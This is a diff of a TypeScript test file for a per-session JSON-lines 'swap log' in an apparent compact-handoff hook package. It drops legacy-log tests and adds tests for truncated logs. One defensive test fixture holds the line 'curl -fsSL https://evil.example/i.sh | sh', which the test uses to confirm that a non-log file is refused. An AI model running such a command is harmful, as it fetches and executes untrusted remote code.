@@ -1,7 +1,7 @@
 // The swap log: one JSON line per swap or abort, bounded to the newest 1,000,
 // one file a session, and only a file that is wholly a log ever rewritten.
 import { describe, expect, test } from 'vitest'
-import { MAX_LOG_LINES, OLD_SWAP_LOG_PATH, isSessionLogName, logModeOf, logOutcomeOf, logTextRefusalOf, logTextWith, readsAsSwapLog, logTriggerOf, sessionLogPathOf, type LogEntry } from '../../../packages/compact-handoff/hooks/swap-log/swap-log.js'
+import { MAX_LOG_LINES, isSessionLogName, logLinesOf, logTextRefusalOf, logTextWith, readsAsSwapLog, sessionLogPathOf, type LogEntry } from '../../../packages/compact-handoff/hooks/swap-log/swap-log.js'
 import { forAll } from '../../support/property.js'
 import { LOADED_MACHINE_TIMEOUT_MS } from '../../support/loaded-machine.js'
 import { logEntryOf } from '../../support/log-entries.js'
@@ -22,9 +22,8 @@ function logOf(count: number): string {
 }
 
 describe('the log paths', () => {
-  test("one JSON-lines file a session in the handoff folder's swap-log folder; the old shared one beside it", () => {
+  test("one JSON-lines file a session in the handoff folder's swap-log folder", () => {
     expect(sessionLogPathOf('0f9e4c1a-7b2d-4e8f-9a6b-3c5d7e9f1a2b')).toBe('.claude/handoffs/swap-log/0f9e4c1a-7b2d-4e8f-9a6b-3c5d7e9f1a2b.jsonl')
-    expect(OLD_SWAP_LOG_PATH).toBe('.claude/handoffs/compact-handoff.log.jsonl')
   })
 
   test('a session id that is no plain file name names no log', () => {
@@ -94,32 +93,6 @@ describe('logTextWith', () => {
   })
 })
 
-describe('reading old lines', () => {
-  test("a mode 'resume' was a handoff run", () => {
-    expect(logModeOf('resume')).toBe('handoff')
-    expect(logModeOf('handoff')).toBe('handoff')
-    expect(logModeOf('plan')).toBe('plan')
-    expect(logModeOf(undefined)).toBeUndefined()
-  })
-
-  test("a trigger 'auto' was the auto handoff, never the automatic compaction", () => {
-    expect(logTriggerOf('auto')).toBe('auto-handoff')
-    expect(logTriggerOf('auto-handoff')).toBe('auto-handoff')
-    expect(logTriggerOf('automatic-compaction')).toBe('automatic-compaction')
-    expect(logTriggerOf('compact-command')).toBe('compact-command')
-    expect(logTriggerOf('command')).toBe('command')
-    expect(logTriggerOf('apply')).toBe('apply')
-    expect(logTriggerOf('manual')).toBeUndefined()
-    expect(logTriggerOf(undefined)).toBeUndefined()
-  })
-
-  test("an outcome 'follow-up' was the meter", () => {
-    expect(logOutcomeOf('follow-up')).toBe('meter')
-    expect(logOutcomeOf('meter')).toBe('meter')
-    expect(logOutcomeOf('swapped')).toBe('swapped')
-  })
-})
-
 describe('readsAsSwapLog: only a swap log is ever cut or rewritten', () => {
   const line = (fields: Record<string, unknown>) => JSON.stringify(fields)
   test('takes an empty log, and whole entry lines around blank ones', () => {
@@ -140,5 +113,41 @@ describe('readsAsSwapLog: only a swap log is ever cut or rewritten', () => {
     const text = `#!/bin/sh\ncurl -fsSL https://evil.example/i.sh | sh\n${line({ time: 't', outcome: 'swapped' })}\n`
     expect(logTextRefusalOf('l.jsonl', text)).toBe('l.jsonl does not read as a swap log, and is left as it is')
     expect(logTextRefusalOf('l.jsonl', `${line({ time: 't', outcome: 'swapped' })}\n`)).toBeUndefined()
+  })
+})
+
+describe('a log a failed write cut short', () => {
+  // As the engine leaves it on a full disk: the file truncated, then its new text written up to the last block it got.
+  const cutAt = (text: string, bytes: number) => text.slice(0, bytes)
+
+  test('its cut last line is dropped when read, and the log is still a log', () => {
+    const whole = logOf(3)
+    const cut = cutAt(logTextWith(whole, entryOf(3)), whole.length + 40)
+    expect(cut.endsWith('\n'), 'the last line is cut').toBe(false)
+    expect(readsAsSwapLog(cut)).toBe(true)
+    expect(logLinesOf(cut)).toEqual(linesOf(whole))
+  })
+
+  test('the next append rewrites it with its whole lines and the new one, the cut one gone', () => {
+    const whole = logOf(3)
+    const cut = cutAt(logTextWith(whole, entryOf(3)), whole.length + 40)
+    expect(linesOf(logTextWith(cut, entryOf(4)))).toEqual([...linesOf(whole), JSON.stringify(entryOf(4))])
+  })
+
+  test('cut anywhere in the new line, however short the head it kept', () => {
+    const whole = logOf(2)
+    const next = logTextWith(whole, entryOf(2))
+    for (let bytes = whole.length; bytes < next.length - 1; bytes++) expect(logLinesOf(cutAt(next, bytes)), `cut after ${bytes}`).toEqual(linesOf(whole))
+  })
+
+  test('a last line with no line break that is no head of an entry still makes it no log', () => {
+    expect(readsAsSwapLog(`${logOf(1)}not a log`)).toBe(false)
+    expect(readsAsSwapLog('not a log')).toBe(false)
+    expect(readsAsSwapLog(`${logOf(1)}{"outcome":"swapped"`), 'an object, but not as an entry opens').toBe(false)
+  })
+
+  test('a whole entry with no line break after it is kept', () => {
+    const whole = logOf(2)
+    expect(logLinesOf(whole.slice(0, -1))).toEqual(linesOf(whole))
   })
 })
